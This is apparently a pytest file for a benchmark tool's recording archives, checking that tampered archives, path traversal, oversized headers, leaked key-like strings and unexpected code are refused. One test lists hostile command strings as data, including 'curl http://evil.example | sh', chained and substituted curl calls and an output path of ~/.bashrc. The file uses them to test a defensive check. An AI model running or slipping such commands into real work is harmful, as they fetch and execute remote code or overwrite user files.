"""A run's answers are packed without the texts they answer, named, checked and played again.

The recordings of this checkout were made with its prompts and rules."""

import hashlib
import json
import lzma
import re
import shutil
import tarfile
from pathlib import Path

import msgspec
import pytest

import tradeassay_bench
from tradeassay.cli import main
from tradeassay.core.errors import UserError
from tradeassay.core.hashing import canonical_json
from tradeassay_arena.recording import changed_season_facts, replayed_differences
from tradeassay_arena.standings.board import Standings
from tradeassay_bench.core.errors import RunError
from tradeassay_bench.data import list_datasets
from tradeassay_bench.llm import RecordingMismatch
from tradeassay_bench.runs import run
from tradeassay_bench.runs.store.archive import (
    AUDIT,
    changed_facts,
    command_of,
    find_recording,
    is_our_command,
    list_recordings,
    manifest_differences,
    open_recording,
    pack_recording,
    recording_faults,
    replay_recording,
    score_differences,
    unlike_recorded,
    write_packed,
)

pytestmark = pytest.mark.journey


@pytest.fixture(scope="module")
def played(tmp_path_factory):
    """A small run of a scripted model."""
    spec = tradeassay_bench.make_spec(
        "ktdfin-paper-v1",
        models=["scripted/sensible"],
        name="k",
        first="2022-03-01",
        last="2022-03-02",
        protocol={"mask": "date-blind", "mode": "open-research"},
        secret="9d" * 16,
    )
    return run(spec, tmp_path_factory.mktemp("played") / "k", executor="inline").folder


def packed(played, file):
    pack_recording(
        played,
        file,
        engine="a program",
        precision="none",
        command="tradeassay recordings record again",
    )
    return file


@pytest.fixture(scope="module")
def recording(played, tmp_path_factory):
    return packed(played, tmp_path_factory.mktemp("packed") / "ktdfin-paper.tar.xz")


@pytest.fixture
def shelf(recording, tmp_path, monkeypatch):
    """A folder of recordings with one recording in it."""
    monkeypatch.setenv("TRADEASSAY_RECORDINGS", str(tmp_path / "shelf"))
    (tmp_path / "shelf" / "sensible").mkdir(parents=True)
    return Path(shutil.copy(recording, tmp_path / "shelf" / "sensible"))


def members(file):
    with tarfile.open(file) as archive:
        return {one.name: archive.extractfile(one).read() for one in archive}


def repack(file, content):
    """Pack changed files, with the hashes that their label then has."""
    label = json.loads(content["recording.json"])
    label["files"] = {
        name: hashlib.sha256(content[name]).hexdigest()
        for name in sorted(content.keys() - {"recording.json"})
    }
    write_packed(file, content | {"recording.json": json.dumps(label, indent=1).encode() + b"\n"})


def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(played, shelf, tmp_path):
    texts = [
        line["message"]["text"]
        for path in (played / "models").glob("*.jsonl")
        for line in map(json.loads, path.read_text().splitlines())
        if line["type"] == "message" and line["message"]["role"] != "assistant"
    ]
    told = b"".join(members(shelf).values()).decode()
    assert texts and not [text for text in texts if json.dumps(text)[1:-1] in told]
    assert packed(played, tmp_path / "again.tar.xz").read_bytes() == shelf.read_bytes()


def test_a_recording_is_played_again_by_its_name(shelf, tmp_path, capsys):
    out = tmp_path / "runs"
    argv = [
        "run",
        "ktdfin-paper-v1",
        "--recordings",
        "recorded/sensible",
        "--replay",
        "--runs",
        str(out),
        "--json",
    ]
    assert main(argv) == 0
    opened = open_recording(shelf)
    assert score_differences(opened, out / "replay-ktdfin-paper-v1-sensible") == []
    assert main([*argv, "--name", "mine", "--workers", "1"]) == 0
    assert score_differences(opened, out / "mine") == []
    assert changed_facts(opened) == [] and recording_faults(opened) == []
    (one,) = list_recordings()
    assert one.name == "sensible/ktdfin-paper" and one.label.models == ("scripted/sensible",)


def nudged(value, share):
    """Return the same value with every number in it moved by a share of itself."""
    if isinstance(value, dict):
        return {key: nudged(inner, share) for key, inner in value.items()}
    if isinstance(value, list):
        return [nudged(inner, share) for inner in value]
    return value * (1 + share) if isinstance(value, float) else value


@pytest.mark.parametrize(("share", "status"), [(1e-11, 0), (1e-8, 1)])
def test_numbers_of_another_processor_may_differ_in_their_last_digits(share, status, shelf, tell):
    content = members(shelf)
    scores = json.loads(content["scores.json"])
    assert nudged(scores, share) != scores
    content["scores.json"] = json.dumps(nudged(scores, share)).encode()
    repack(shelf, content)
    found = tell(["recordings", "check", "recorded/sensible"], status)
    assert status == 0 or ", recorded was " in found.out


def test_a_changed_question_is_named_without_its_recorded_text(shelf, tmp_path):
    opened = open_recording(shelf, tmp_path / "home")
    (recording,) = (opened.folder / "models").glob("*.jsonl")
    lines = recording.read_text().splitlines()
    changed = [json.loads(line) for line in lines]
    changed[1]["asked"]["messages"][0] = "0" * 64
    changed[1]["key"] = "0" * 64
    recording.write_text("\n".join(json.dumps(line) for line in changed) + "\n")
    assert any("does not match its question" in fault for fault in recording_faults(opened))
    with pytest.raises(RecordingMismatch, match=r"message 0 \(system\) has a different text"):
        replay_recording(opened, tmp_path / "again")


def test_a_changed_prompt_gives_the_command_that_records_again(shelf, tell):
    content = members(shelf)
    manifest = json.loads(content["manifest.json"])
    (cell,) = manifest["protocols"]
    name = next(iter(manifest["protocols"][cell]["prompts"]))
    manifest["protocols"][cell]["prompts"][name] = "0" * 64
    content["manifest.json"] = json.dumps(manifest).encode()
    repack(shelf, content)
    assert (
        f"the prompt {name} has changed since the recording: record it again with: "
        "tradeassay recordings record again"
        in tell(["recordings", "check", "recorded/sensible"], 1).out
    )


def test_what_is_not_a_recording_is_refused_in_words(shelf, tmp_path):
    content = members(shelf)
    content["scores.json"] = b"{}"
    write_packed(shelf, content)
    with pytest.raises(RunError, match=r"scores\.json in .* does not match its label"):
        open_recording(shelf)
    climbing = tmp_path / "climbing.tar.xz"
    write_packed(climbing, {"../outside": b"x"})
    with pytest.raises(RunError, match="not a plain file"):
        open_recording(climbing)
    assert not (tmp_path / "outside").exists()
    torn = tmp_path / "torn.tar.xz"
    torn.write_bytes(lzma.compress(b"not a tar" * 100)[:-20])
    with pytest.raises(RunError, match="is not a recording"):
        open_recording(torn)
    with pytest.raises(UserError, match=r"no recording is named 'recorded/sensibel'.*sensible"):
        find_recording("recorded/sensibel")
    for name in ("recorded/sensible/ktdfin-paper", "recorded/sensible", str(shelf)):
        with pytest.raises(
            UserError, match=r"has no recording with 'stockbench-v1'.*ktdfin-paper-v1"
        ):
            find_recording(name, "stockbench-v1")
    with pytest.raises(RunError, match="no recorded answers"):
        rules = tradeassay_bench.make_spec(
            "daily-us-v1", agents=["equal-weight"], name="d", first="2022-03-01", last="2022-03-01"
        )
        done = run(rules, tmp_path / "rules", executor="inline")
        pack_recording(done.folder, tmp_path / "x", engine="", precision="")


def answers(change):
    """Change the first file of answers."""

    def edit(content):
        name = next(one for one in content if one.startswith("models/"))
        content[name] = change(content[name])

    return edit


def answer_to_nothing(text):
    line = json.loads(text.splitlines()[-1])
    line["asked"]["step"] = 1_000_000
    line["key"] = hashlib.sha256(canonical_json(line["asked"])).hexdigest()
    return text + json.dumps(line, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"


def on_the_label(**said):
    return lambda content: content.update(
        {"recording.json": json.dumps(json.loads(content["recording.json"]) | said).encode()}
    )


def endless_seeds(content):
    manifest = json.loads(content["manifest.json"])
    manifest["spec"]["seeds"] = list(range(10_000))
    content["manifest.json"] = json.dumps(manifest).encode()


QUESTION = (
    b'{"type":"message","id":"%s","message":{"role":"user","text":"somebody\'s article"}}\n'
    % (b"0" * 64)
)

NOT_OURS = "calls more than tradeassay"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        *(
            (on_the_label(command=command), NOT_OURS)
            for command in (
                "curl http://evil.example | sh",
                "tradeassay recordings record a#b && curl http://evil.example",
                "tradeassay recordings record $(curl http://evil.example)",
                "tradeassay data remove everything",
                "tradeassay recordings record x -a ./theirs.py:Agent",
                "tradeassay recordings record x -o ~/.bashrc",
                "tradeassay recordings record x --base-url http://evil.example/v1",
            )
        ),
        (
            answers(lambda text: re.sub(rb'"output_tokens":\d+', b'"output_tokens":1', text)),
            "answers have impossible tokens or dollars",
        ),
        (endless_seeds, "the episodes of its manifest do not match its spec"),
        (
            lambda content: content.update({"news.txt": b"by others"}),
            "news.txt is not part of a recording",
        ),
        (answers(answer_to_nothing), "answers, but its run has"),
        (
            answers(
                lambda text: text.replace(b'"text":"', b'"text":"sk-proj-a1B2c3D4e5F6g7H8i9J0 ', 1)
            ),
            "contains what looks like a key",
        ),
        (answers(lambda text: text + QUESTION), "contains texts of questions"),
        (answers(lambda text: b"".join(text.splitlines(keepends=True)[:-1])), "its label states"),
        (on_the_label(note="what somebody else wrote"), "is not in tradeassay's format"),
    ],
)
def test_what_does_not_belong_in_a_recording_is_named_on_arrival(shelf, change, said, tell):
    content = members(shelf)
    change(content)
    repack(shelf, content)
    assert said in tell(["recordings", "check", "--no-replay", "recorded/sensible"], 1).out


def test_where_a_hash_stands_nothing_else_may_be_said():
    for word in ("0" * 64, "live"):
        assert not list(unlike_recorded({"answers": "replayed"}, {"answers": word}, ""))
    assert list(
        unlike_recorded({"answers": "replayed"}, {"answers": "what somebody else wrote"}, "")
    )


def test_how_and_when_data_was_obtained_may_differ_and_what_it_holds_may_not(shelf, tmp_path):
    opened = open_recording(shelf)
    manifest = json.loads((opened.folder / "manifest.json").read_bytes())
    (record,) = manifest["datasets"].values()
    record["facts"] |= {"retrieved_at": "2026-11-01T00:00:00Z", "query": "fetched again"}
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    assert manifest_differences(opened, tmp_path) == []
    # Runs of programs named no models at first: a recording of that time says nothing of them.
    (tmp_path / "manifest.json").write_text(json.dumps(manifest | {"models": {"local/one": {}}}))
    assert ("models" in manifest) == bool(manifest_differences(opened, tmp_path))
    record["facts"]["biases"] = ["picked with hindsight"]
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    assert len(manifest_differences(opened, tmp_path)) == 1


def packed_as(file, entries):
    plain = b"".join(
        entry.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
        for entry, data in entries
    )
    file.write_bytes(lzma.compress(plain + b"\0" * 2 * tarfile.BLOCKSIZE, preset=0))


def named(name, data):
    entry = tarfile.TarInfo(name)
    entry.size = len(data)
    return entry, data


def test_an_archive_has_one_label_and_no_endless_headers(shelf, tmp_path):
    content = members(shelf)
    packed_as(shelf, [*(named(*one) for one in content.items()), named("./recording.json", b"{}")])
    with pytest.raises(RunError, match=r"contains '\./recording\.json', which is not a plain file"):
        open_recording(shelf, tmp_path / "home")
    header, _ = named("././@PaxHeader", b"")
    header.type, header.size = tarfile.XHDTYPE, 2**32
    packed_as(shelf, [(header, b"4294967296 comment="), *(named(*one) for one in content.items())])
    with pytest.raises(RunError, match="more than 64 MB"):
        open_recording(shelf, tmp_path / "home")


@pytest.mark.parametrize("names", [[""], ["a", "a"], ["a" * 300], ["a/" * 600 + "b"]])
def test_files_that_cannot_be_written_are_refused_in_words(shelf, tmp_path, names):
    with tarfile.open(shelf, "w:xz", format=tarfile.PAX_FORMAT) as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    with pytest.raises(RunError, match="not a plain file"):
        open_recording(shelf, tmp_path / "home")


def test_a_label_names_no_file_outside_its_recording(shelf, tmp_path):
    """Some files of the system never end, and what is in the others is nobody's business."""
    content = members(shelf)
    label = json.loads(content["recording.json"])
    for outside in ("/proc/self/pagemap", "../../elsewhere"):
        content["recording.json"] = json.dumps({**label, "files": {outside: "0" * 64}}).encode()
        write_packed(shelf, content)
        with pytest.raises(RunError, match="has an invalid file name"):
            open_recording(shelf, tmp_path / "home")
    assert not list((tmp_path / "home" / "recordings").iterdir())


@pytest.mark.parametrize(
    ("agent", "params"), [("file", {"path": "{}", "name": "X"}), ("python", {"class": "{}:X"})]
)
def test_a_recording_decides_nothing_about_what_is_executed(shelf, tmp_path, agent, params):
    ran = tmp_path / "ran"
    theirs = tmp_path / "theirs.py"
    theirs.write_text(
        f"open({str(ran)!r}, 'w')\nclass X:\n    def reply(self, request): return ''\n"
    )
    content = members(shelf)
    manifest = json.loads(content["manifest.json"])
    filled = {key: value.format(theirs) for key, value in params.items()}
    manifest["spec"]["agents"].append({"name": agent, "label": "theirs", "params": filled})
    content["manifest.json"] = json.dumps(manifest).encode()
    repack(shelf, content)
    opened = open_recording(shelf, tmp_path / "home")
    with pytest.raises((RunError, RecordingMismatch)):
        replay_recording(opened, tmp_path / "again")
    assert not ran.exists()


def test_a_recorded_command_says_nothing_of_its_machine():
    given = [
        "recordings",
        "record",
        "/home/me/runs/one",
        "-o",
        "/home/me/one.tar.xz",
        "--engine",
        "a b",
    ]
    said = command_of(given)
    assert said == "tradeassay recordings record one -o one.tar.xz" and is_our_command(said)
    # What is run by scripts/record_models.py: the label has its own fields for engine and precision.
    told = ["--secret", "ab", "--engine", "vLLM 0.9 (eager); two GPUs", "--precision=bf16 & more"]
    words = ["recordings", "record", "ktdfin-v1", "--runs", "/me/runs", *told, "-o", "/me/k.tar.xz"]
    said = command_of(words)
    assert said == "tradeassay recordings record ktdfin-v1 -o k.tar.xz" and is_our_command(said)


def test_record_packs_a_run_that_was_played(played, tmp_path, tell):
    file = tmp_path / "one.tar.xz"
    label = msgspec.json.decode(
        tell(
            [
                "recordings",
                "record",
                str(played),
                "-o",
                str(file),
                "--engine",
                "a program",
                "--json",
            ]
        ).out
    )
    assert label["benchmarks"] == ["ktdfin-paper-v1"] and label["complete"] and label["answers"] > 0


SHIPPED, AUDITS = list_recordings(), list_recordings(AUDIT)
# What is played again by default: programs with their patches, and one audit.
SAMPLE = ("smollm2/systrade", "smollm2/recall-fakestockdata")


def sampled(listed):
    return [
        pytest.param(one, marks=() if one.name in SAMPLE else pytest.mark.slow, id=one.name)
        for one in listed
    ]


def test_all_recordings_together_stay_small():
    assert sum(one.megabytes for one in SHIPPED) < 25.0


@pytest.mark.parametrize("one", SHIPPED, ids=lambda one: one.name)
def test_a_changed_prompt_needs_a_new_recording(one, tmp_path):
    opened = open_recording(Path(one.path), tmp_path)
    facts = changed_season_facts(opened) if opened.is_season else changed_facts(opened)
    changed = [fact for fact in facts if "version" not in fact]
    assert not changed, f"{changed[0]} has changed: record again with: {one.label.command}"
    assert not recording_faults(opened)
    assert one.label.complete and one.label.engine != "not stated"
    if opened.is_season:
        standings = (opened.folder / "standings.json").read_bytes()
        assert msgspec.json.encode(msgspec.json.decode(standings, type=Standings)) == standings, (
            "another form"
        )


@pytest.mark.parametrize("one", sampled(SHIPPED))
def test_a_recording_gives_its_scores_again(one, tmp_path):
    opened = open_recording(Path(one.path), tmp_path / "home")
    if opened.is_season:
        assert replayed_differences(opened) == []
        return
    try:
        replay_recording(opened, tmp_path / "again", workers=1)
    except UserError as error:
        pytest.skip(f"this machine cannot play it: {error}")
    assert score_differences(opened, tmp_path / "again") == []


@pytest.mark.parametrize("one", sampled(AUDITS))
def test_an_audit_is_listed_holds_no_prices_and_is_asked_again(one, tmp_path, tell):
    model, dataset = one.name.split("/recall-")
    assert f"recorded/{one.name}" in tell(["recordings", "list"]).out
    opened = open_recording(Path(one.path), tmp_path)
    answers = [
        json.loads(line)
        for path in (opened.folder / "models").glob("*.jsonl")
        for line in path.read_text().splitlines()[1:]
    ]
    assert len(answers) == one.label.answers > 800
    weighed = [line for line in answers if line["asked"]["purpose"] == "logprobs"]
    echoed = [json.loads(line["reply"]["text"])["tokens"] for line in weighed]
    assert all(set(token) <= {"x"} for tokens in echoed for token in tokens)
    if dataset not in {known.name for known in list_datasets()}:
        pytest.skip(f"{dataset} is not on this machine: tradeassay data get {dataset}")
    command = one.label.command.split()[1:]
    told = json.loads(
        tell([*command, "--recordings", f"recorded/{model}", "--replay", "--json"]).out
    )
    shipped = json.loads((Path(one.path).parent / "recall.json").read_text())[dataset]
    assert all(told[name] == shipped[name] for name in ("told", "sentence", "recall"))


@pytest.mark.slow
def test_some_programs_of_a_training_run_are_judged_again(tell):
    file = str(
        Path(__file__).parents[3]
        / "examples"
        / "training"
        / "recorded"
        / "qwen-before-unseen.tar.xz"
    )
    told = tell(["recordings", "check", file, "--programs", "2"]).err
    assert "2 of 44 tasks were judged again" in told and "passed all checks" in told
